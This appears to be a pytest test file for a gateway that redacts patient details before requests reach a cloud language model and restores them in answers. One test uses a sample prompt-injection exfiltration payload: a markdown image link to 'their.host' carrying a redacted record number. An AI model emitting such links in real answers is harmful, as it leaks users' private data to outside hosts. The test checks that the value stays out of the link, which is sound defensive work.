# SPDX-License-Identifier: Apache-2.0
"""A whole gateway that owes redaction: what leaves, what comes back, what is on record."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import orjson
import pytest
from structlog.testing import capture_logs

from gateway import bootstrap
from gateway.redaction import redactor
from gateway.redaction.placeholders import draw_nonce
from gateway.streaming import restoration
from tests.doubles.asgi import Answer, call
from tests.doubles.cloud import Act, Ending
from tests.doubles.house import AUTH, CLOUD_MODEL, House, house
from tests.security.cases import PICTURE

PHI = "The patient Jane Hollander, MRN 48213377, has diabetes. Call Jane Hollander."
NAME, MRN = "[NAME_1_KXQTJW]", "[MRN_1_KXQTJW]"
VALUES = ("Hollander", "48213377")


@asynccontextmanager
async def redacting(**settings: Any) -> AsyncIterator[House]:
    """A gateway that asks the cloud first, under the pack `redact`."""
    given: dict[str, Any] = {"policy": {"packs": ["redact"]}, "routing": {"strong_fraction": 1.0}}
    async with house(**{**given, **settings}) as here:
        yield here


@pytest.fixture(autouse=True)
def _fixed(monkeypatch: pytest.MonkeyPatch) -> None:
    """The random letters are always the same."""
    monkeypatch.setattr(redactor, "draw_nonce", lambda _: "KXQTJW")


async def ask(
    here: House, text: str = PHI, path: str = "/v1/chat/completions", **body: Any
) -> Answer:
    said = {"model": "auto", "messages": [{"role": "user", "content": text}], **body}
    headers = {**AUTH, **said.pop("headers", {})}
    return await call(here.app, path, json.dumps(said).encode(), headers)


def content(answer: Answer) -> str:
    """What an answer says, whole or streamed."""
    if answer.headers["content-type"].startswith("application/json"):
        return str(answer.json()["choices"][0]["message"]["content"])
    events = [e[6:] for e in answer.body.split(b"\n\n") if e.startswith(b"data: {")]
    choices = [choice for event in events for choice in json.loads(event).get("choices", ())]
    return "".join(choice["delta"].get("content", "") for choice in choices)


def records(here: House) -> list[dict[str, Any]]:
    paths = sorted((here.state_dir / "audit").glob("*.jsonl"))
    lines = [line for path in paths for line in path.read_bytes().splitlines()]
    return [orjson.loads(line) for line in lines]


async def record(here: House, event: str) -> dict[str, Any]:
    """The first record of an event, once it is written."""
    for _ in range(200):
        found = [each for each in records(here) if each["event"] == event]
        if found:
            return found[0]
        await asyncio.sleep(0.02)
    raise AssertionError(f"no {event} on record")


async def metric(here: House, name: str) -> float:
    text = (await call(here.app, "/metrics", method="GET")).body.decode()
    return next((float(line.split()[-1]) for line in text.splitlines() if line.startswith(name)), 0)


@pytest.mark.parametrize("stream", [False, True])
async def test_what_leaves_is_redacted_and_what_comes_back_is_restored(stream: bool) -> None:
    """Counted in the header, the audit log and the metrics, where no value ever stands."""
    async with redacting() as here:
        here.cloud.otherwise = Act(content=f"{NAME} has number {MRN}, says {NAME}.", piece_bytes=7)
        with capture_logs() as logs:
            answer = await ask(here, stream=stream)

        assert content(answer) == "Jane Hollander has number 48213377, says Jane Hollander."
        assert answer.headers["x-nearward-route"] == "cloud"
        assert answer.headers["x-nearward-redactions"] == "3"
        assert answer.headers["x-nearward-data-class"] == "phi"
        sent = here.cloud.requests[0].json
        assert sent["messages"][1]["content"] == (
            f"The patient {NAME}, MRN {MRN}, has diabetes. Call {NAME}."
        )
        intent = await record(here, "intent")
        assert intent["redactions"] == {"NAME": 2, "MRN": 1}
        assert intent["to"] == "cloud-us"
        assert await metric(here, 'nearward_redactions_total{kind="NAME"}') == 2
        finds = 'nearward_privacy_finds_total{kind="MRN",mode="%s"}'
        assert await metric(here, finds % "auto") == 1
        assert await metric(here, finds % "ident") == 0
        metrics = (await call(here.app, "/metrics", method="GET")).body.decode()
        for kept in (str(records(here)), metrics, str(logs)):
            assert [value for value in VALUES if value in kept] == []


@pytest.mark.parametrize("stream", [False, True])
async def test_a_clean_request_passes_as_it_is(stream: bool) -> None:
    """Nothing is owed, so nothing is removed, and bytes of the answer are not touched."""
    async with redacting() as here:
        here.cloud.otherwise = Act(content=NAME)
        answer = await ask(here, "What is the dose of metformin?", stream=stream)
        assert content(answer) == NAME
        assert answer.headers["x-nearward-redactions"] == "0"
        assert len(here.cloud.requests[0].json["messages"]) == 1


@pytest.mark.parametrize(
    ("code", "body"),
    [
        ("number", {"x": {"mrn": 48213377}}),
        ("unreadable", {"x": "患者は糖尿病です。" * 20}),
        ("nothing_found", {"text": "Hello.", "headers": {"x-nearward-data-class": "phi"}}),
    ],
)
async def test_what_cannot_be_redacted_is_answered_at_home(code: str, body: dict[str, Any]) -> None:
    """Not one byte leaves; reason, metric and record say why."""
    async with redacting() as here:
        answer = await ask(here, **body)
        assert answer.headers["x-nearward-route"] == "local"
        assert answer.headers["x-nearward-reason"] == "not_redactable"
        assert answer.headers["x-nearward-redactions"] == "0"
        assert here.sink.sent_bytes == 0
        assert await metric(here, f'nearward_unredactable_total{{reason="{code}"}}') == 1
        intent = await record(here, "intent")
        assert (intent["to"], intent["not_redactable"]) == ("device", code)

        explained = (await ask(here, path="/v1/route/explain", **body)).json()
        assert explained["redaction"] == {"kinds": {}, "refusal": code}
        assert [step["destination"] for step in explained["plan"]] == ["device"]


async def test_what_the_operator_calls_sensitive_does_not_leave_without_a_find() -> None:
    """With `default_class: phi` nobody trusts the detector alone."""
    async with redacting(policy={"packs": ["redact"], "default_class": "phi"}) as here:
        assert (await ask(here, "Hello.")).headers["x-nearward-reason"] == "not_redactable"
        assert here.sink.sent_bytes == 0
        assert (await ask(here)).headers["x-nearward-route"] == "cloud"


async def test_within_a_session_a_value_keeps_its_placeholder(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Over turns; not over sessions, nor without one; and a model cannot ask for an older value."""
    monkeypatch.setattr(redactor, "draw_nonce", draw_nonce)
    async with redacting() as here:

        async def sent(text: str, session: str = "") -> str:
            headers = {"x-nearward-session": session} if session else {}
            await ask(here, text, headers=headers)
            return str(here.cloud.requests[-1].json["messages"][-1]["content"])

        first = await sent(PHI, "a")
        name = first.split()[2].rstrip(",")
        assert (await sent(f"Ann Leeson. {PHI}", "a")).endswith(first)
        assert name not in await sent(PHI, "b")
        assert name not in await sent(PHI)
        here.cloud.otherwise = Act(content=name)
        other = "The patient Carlos Fernandez has asthma."
        answer = await ask(here, other, headers={"x-nearward-session": "a"})
        assert content(answer) == name


@pytest.mark.parametrize(
    "text",
    [
        "Is 48213377 due for a viral load test?",
        "Is Hollander due for one? Write to bob@example.com.",
        "Is hollander due?",
    ],
)
async def test_what_a_turn_before_gave_away_is_removed_in_the_next(text: str) -> None:
    """Alone, a detector would not see it: the session knows."""
    async with redacting() as here:
        session = {"x-nearward-session": "a"}
        await ask(here, headers=session)
        answer = await ask(here, text, headers=session)
        assert answer.headers["x-nearward-route"] == "cloud"
        sent = json.dumps(here.cloud.requests[-1].json).lower()
        assert [value for value in VALUES if value.lower() in sent] == []


async def test_a_session_that_carried_phi_needs_a_find_to_leave() -> None:
    """As a request that is called PHI does: no detector knows what the next turn speaks of."""
    async with redacting() as here:
        session = {"x-nearward-session": "a"}
        await ask(here, headers=session)
        sent = here.sink.sent_bytes
        answer = await ask(here, "So will the old farmer infect others?", headers=session)
        assert answer.headers["x-nearward-route"] == "local"
        assert here.sink.sent_bytes == sent
        assert (await ask(here, "So will the old farmer?")).headers["x-nearward-route"] == "cloud"


async def test_media_stay_under_the_pack() -> None:
    """The pack forbids them by itself."""
    async with redacting() as here:
        answer = await ask(here, x={"image": PICTURE})
        assert answer.headers["x-nearward-route"] == "local"
        assert here.sink.sent_bytes == 0


async def test_a_cloud_that_is_asked_for_by_name_is_refused() -> None:
    """With the reason, and the refusal on record."""
    async with redacting() as here:
        answer = await ask(here, model=f"cloud/{CLOUD_MODEL}", x={"mrn": 48213377})
        assert answer.status == 403
        assert "not_redactable" in answer.json()["error"]["message"]
        assert here.sink.sent_bytes == 0
        refused = await record(here, "refused")
        assert refused["not_redactable"] == "number"


async def test_explain_says_what_would_be_removed() -> None:
    """By kind, with nothing sent; and nothing where nothing is owed."""
    async with redacting() as here:
        explained = (await ask(here, path="/v1/route/explain")).json()
        assert explained["obligations"] == ["no_store", "redact"]
        assert explained["redaction"] == {"kinds": {"NAME": 2, "MRN": 1}, "refusal": None}
        assert explained["plan"][0]["destination"] == "cloud-us"
        clean = (await ask(here, "Hello", path="/v1/route/explain")).json()
        assert clean["redaction"] is None
        assert here.sink.sent_bytes == 0


async def test_without_a_redactor_nothing_leaves(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever forgets to wire one has a closed cloud, not an open one."""
    monkeypatch.setattr(bootstrap, "make_redactor", lambda *_: None)
    async with redacting() as here:
        answer = await ask(here)
        assert answer.headers["x-nearward-route"] == "local"
        assert here.sink.sent_bytes == 0


async def test_an_attempt_without_a_copy_is_not_made(monkeypatch: pytest.MonkeyPatch) -> None:
    """Even if the plan had it: the executor looks for itself."""
    monkeypatch.setattr(bootstrap, "make_redactor", lambda *_: None)
    monkeypatch.setattr("gateway.judgement.Judged.met", frozenset({"redact"}))
    async with redacting() as here:
        answer = await ask(here)
        assert answer.headers["x-nearward-route"] == "local"
        assert answer.headers["x-nearward-attempts"] == "1"
        assert here.sink.sent_bytes == 0
        assert [r["to"] for r in records(here) if r["event"] == "intent"] == ["device"]


async def test_the_device_gets_the_request_whole() -> None:
    """After a cloud failed, too: on the device nothing leaves."""
    async with redacting() as here:
        here.cloud.plan(Act(status=500))
        answer = await ask(here)
        assert answer.headers["x-nearward-route"] == "local"
        assert answer.headers["x-nearward-redactions"] == "0"
        asked = json.loads(here.engine.requests[-1].body)
        assert asked["messages"] == [{"role": "user", "content": PHI}]


async def test_errors_are_not_restored() -> None:
    """No value of a caller's ever stands in an error."""
    async with redacting() as here:
        body = json.dumps({"error": {"message": f"no {NAME}"}}).encode()
        head = f"HTTP/1.1 400 No\r\ncontent-type: application/json\r\ncontent-length: {len(body)}"
        here.cloud.otherwise = Act(raw=f"{head}\r\n\r\n".encode() + body)
        answer = await ask(here, model=CLOUD_MODEL, x_only_cloud=1)
        assert answer.status == 400
        assert answer.json()["error"]["message"] == f"no {NAME}"


async def test_a_stream_that_breaks_off_ends_with_an_error_event() -> None:
    """As without redaction; what was still held is not given out."""
    async with redacting() as here:
        here.cloud.otherwise = Act(content=f"{NAME} and x", events=2, ending=Ending.RESET)
        answer = await ask(here, stream=True)
        assert answer.body.rstrip().split(b"\n\n")[-1].startswith(b'data: {"error"')
        assert b"[DONE]" not in answer.body


def fail(*_: Any) -> None:
    """A fault in restoration that carries what it must not."""
    raise RuntimeError(f"the map: {VALUES}")


async def test_a_fault_in_restoration_ends_a_stream_with_an_error(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Never with the map, in the answer or in a log."""
    async with redacting() as here:
        here.cloud.otherwise = Act(content=f"Hello {NAME}, bye.", event_gap_s=0.01)
        monkeypatch.setattr(restoration.Restoration, "value_of", fail)
        with capture_logs() as logs:
            answer = await ask(here, stream=True)
        last = answer.body.rstrip().split(b"\n\n")[-1]
        assert json.loads(last[6:])["error"]["code"] == "restoration_failed"
        assert b"[DONE]" not in answer.body
        for kept in (answer.body.decode(), str(logs), str(records(here))):
            assert [value for value in VALUES if value in kept] == []


@pytest.mark.parametrize("fault", ["ours", "theirs"])
async def test_an_answer_that_cannot_be_restored_is_none(
    fault: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before the first byte another destination may still answer."""
    async with redacting() as here:
        here.cloud.otherwise = Act(content=f"Hello {NAME}.")
        if fault == "ours":
            monkeypatch.setattr(restoration.Restoration, "value_of", fail)
        else:
            head = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 4\r\n\r\n"
            here.cloud.otherwise = Act(raw=head.encode() + b"oops")
        answer = await ask(here)
        assert answer.headers["x-nearward-route"] == "local"
        assert answer.headers["x-nearward-reason"] == "fallback"
        assert await metric(here, 'nearward_attempts_total{destination="cloud-us"') == 1


@pytest.mark.parametrize("stream", [False, True])
async def test_placeholders_that_were_not_given_stay(stream: bool) -> None:
    """A model that invents them, and a user who writes them, get back what they wrote."""
    said = f"[NAME_7_KXQTJW] [NAME_1_ZZZZZZ] [NAME_1] {NAME}"
    async with redacting() as here:
        here.cloud.otherwise = Act(content=said)
        answer = await ask(here, f"{PHI} And [NAME_1_ZZZZZZ], [NAME_1]?", stream=stream)
        assert content(answer) == "[NAME_7_KXQTJW] [NAME_1_ZZZZZZ] [NAME_1] Jane Hollander"
        assert "[NAME_1_ZZZZZZ], [NAME_1]?" in here.cloud.requests[0].json["messages"][1]["content"]


async def test_no_value_is_put_into_a_strangers_address() -> None:
    """A prompt injected by a page cannot have the client carry a value to its host."""
    async with redacting() as here:
        here.cloud.otherwise = Act(content=f"![](https://their.host/?q={MRN}) {MRN}")
        answer = await ask(here)
        assert content(answer) == f"![](https://their.host/?q={MRN}) 48213377"


async def test_tool_calls_come_back_as_json_with_the_values_in_them() -> None:
    """Also a value with a quotation mark in it."""
    arguments = json.dumps({"who": NAME, "n": [MRN]})
    function = {"name": "find", "arguments": arguments}
    message = {
        "role": "assistant",
        "content": None,
        "tool_calls": [{"id": "c1", "type": "function", "function": function}],
    }
    body = json.dumps({"choices": [{"index": 0, "message": message}]}).encode()
    head = f"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {len(body)}"
    tool = {"type": "function", "function": {"name": "find", "parameters": {"type": "object"}}}
    async with redacting() as here:
        here.cloud.otherwise = Act(raw=f"{head}\r\n\r\n".encode() + body)
        answer = await ask(here, tools=[tool])
        (got,) = answer.json()["choices"][0]["message"]["tool_calls"]
        assert json.loads(got["function"]["arguments"]) == {
            "who": "Jane Hollander",
            "n": ["48213377"],
        }


@pytest.mark.parametrize("stream", [False, True])
async def test_formats_are_kept_where_the_operator_wants_it(
    stream: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A telephone number leaves as one that is nobody's; a name as a placeholder all the same."""
    monkeypatch.setattr("gateway.redaction.placeholders.secrets.randbelow", lambda _: 0)
    async with redacting(privacy={"placeholders": "format_preserving"}) as here:
        here.cloud.otherwise = Act(content=f"{NAME} has 200-555-0100.", piece_bytes=7)
        answer = await ask(here, "Call the patient Jane Hollander, 415-723-8800.", stream=stream)

        assert content(answer) == "Jane Hollander has 415-723-8800."
        sent = here.cloud.requests[0].json
        assert sent["messages"][1]["content"] == f"Call the patient {NAME}, 200-555-0100."
